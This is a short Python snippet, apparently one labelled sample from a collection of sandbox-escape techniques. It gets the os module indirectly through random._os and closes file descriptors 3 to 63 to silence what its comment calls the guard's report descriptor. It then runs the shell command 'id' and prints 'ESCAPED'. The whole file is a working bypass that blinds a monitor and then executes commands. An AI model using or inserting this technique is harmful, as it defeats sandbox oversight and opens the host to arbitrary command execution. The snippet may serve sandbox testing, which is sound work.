# class: closing the guard's report descriptor before the effect
import random
os_ = random._os
for fd in range(3, 64):
    try:
        os_.close(fd)
    except OSError:
        pass
print("ESCAPED", os_.system("id"))
